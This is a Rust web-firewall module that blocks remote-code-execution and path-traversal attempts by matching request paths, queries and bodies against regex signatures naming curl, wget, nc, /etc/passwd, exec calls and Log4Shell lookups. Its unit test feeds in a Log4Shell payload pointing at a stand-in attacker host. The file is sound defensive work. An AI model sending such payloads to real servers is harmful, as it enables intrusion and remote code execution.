use once_cell::sync::Lazy;

use crate::model::DetectionResult;

use super::{
    Checker, RequestContext,
    signatures::{Signature, SignatureSet},
};

static SIGNATURES: Lazy<SignatureSet> = Lazy::new(|| {
    SignatureSet::compile(&[
        Signature::new("rce-shell-chain", r"(?:;|\||&&)\s*(cat|wget|curl|nc|bash|sh)\b"),
        Signature::new("rce-backtick", r"`[^`]+`"),
        Signature::new("rce-dollar-paren", r"\$\([^)]+\)"),
        Signature::new("rce-etc-passwd", r"/etc/passwd"),
        Signature::new("rce-php-exec", r"(?i)\b(exec|system|passthru|shell_exec)\s*\("),
        Signature::new("rce-java-runtime", r"(?i)Runtime\.getRuntime\(\)\.exec"),
        Signature::new("rce-log4shell", r"(?i)\$\{jndi:(ldap|rmi|dns)"),
        Signature::new("rce-path-traversal", r"\.\./\.\./"),
    ])
});

/// Signature-based remote-code-execution and path-traversal guard.
pub struct RceChecker;

impl RceChecker {
    pub fn new() -> Self {
        Self
    }
}

impl Checker for RceChecker {
    fn name(&self) -> &'static str {
        "rce"
    }

    fn check(&self, ctx: &RequestContext<'_>) -> DetectionResult {
        if !ctx.host.guards.rce {
            return DetectionResult::pass();
        }
        let candidates = [Some(ctx.uri_path), Some(ctx.query), ctx.body_peek];
        for candidate in candidates.into_iter().flatten() {
            if let Some(name) = SIGNATURES.first_match(candidate) {
                return DetectionResult::block(
                    name,
                    "Remote Code Execution Attempt Detected",
                    format!("matched signature '{name}'"),
                );
            }
        }
        DetectionResult::pass()
    }
}

#[cfg(test)]
mod tests {
    use std::{net::IpAddr, sync::Arc};

    use http::{HeaderMap, Method};

    use super::*;
    use crate::model::HostSafe;

    #[test]
    fn detects_log4shell_payload() {
        let checker = RceChecker::new();
        let host = Arc::new(HostSafe::global("_global_"));
        let headers = HeaderMap::new();
        let method = Method::GET;
        let ctx = RequestContext {
            host,
            client_ip: "203.0.113.9".parse::<IpAddr>().unwrap(),
            method: &method,
            uri_path: "/",
            query: "",
            headers: &headers,
            body_peek: Some("${jndi:ldap://evil.example/a}"),
        };
        assert!(checker.check(&ctx).is_block);
    }
}
